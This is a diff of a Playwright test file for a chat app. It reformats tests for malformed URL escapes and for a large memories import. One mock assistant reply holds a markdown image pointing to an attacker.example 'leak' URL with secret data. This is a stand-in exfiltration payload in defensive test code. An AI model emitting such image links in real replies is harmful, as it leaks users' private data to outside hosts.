@@ -18,7 +18,15 @@ test.describe("everyday input", () => {
 
   test("malformed % escapes in links give a page, never a server error", async ({ page }) => {
     await register(page, uniqueEmail("escapes"));
-    for (const url of ["/c/%E0%A4%A", "/c/abc%zz", "/%", "/settings/memory?q=%E0%A4", "/settings/memory?q=%", "/admin/audit?q=%ZZ", "/?x=%"]) {
+    for (const url of [
+      "/c/%E0%A4%A",
+      "/c/abc%zz",
+      "/%",
+      "/settings/memory?q=%E0%A4",
+      "/settings/memory?q=%",
+      "/admin/audit?q=%ZZ",
+      "/?x=%",
+    ]) {
       const res = await page.goto(url);
       expect(res?.status() ?? 0, url).toBeLessThan(500);
     }
@@ -34,7 +42,9 @@ test.describe("everyday input", () => {
     });
     await fetch(`${mockUrl()}/__mock/replies`, {
       method: "POST",
-      body: JSON.stringify({ replies: [{ match: "show me a picture", content: "Here: ![chart](https://attacker.example/leak?q=secret)" }] }),
+      body: JSON.stringify({
+        replies: [{ match: "show me a picture", content: "Here: ![chart](https://attacker.example/leak?q=secret)" }],
+      }),
     });
     await page.getByLabel("Message", { exact: true }).fill("show me a picture");
     await page.keyboard.press("Enter");
@@ -73,7 +83,9 @@ test.describe("everyday input", () => {
     expect(fs.statSync(file).size).toBeGreaterThan(3_900_000);
     await page.goto("/settings/data");
     await page.getByLabel("Memories file to import").setInputFiles(file);
-    await expect(page.getByRole("status").filter({ hasText: "Imported" })).toContainText("Imported 2800 memories", { timeout: 280_000 });
+    await expect(page.getByRole("status").filter({ hasText: "Imported" })).toContainText("Imported 2800 memories", {
+      timeout: 280_000,
+    });
     fs.rmSync(file);
   });
 });
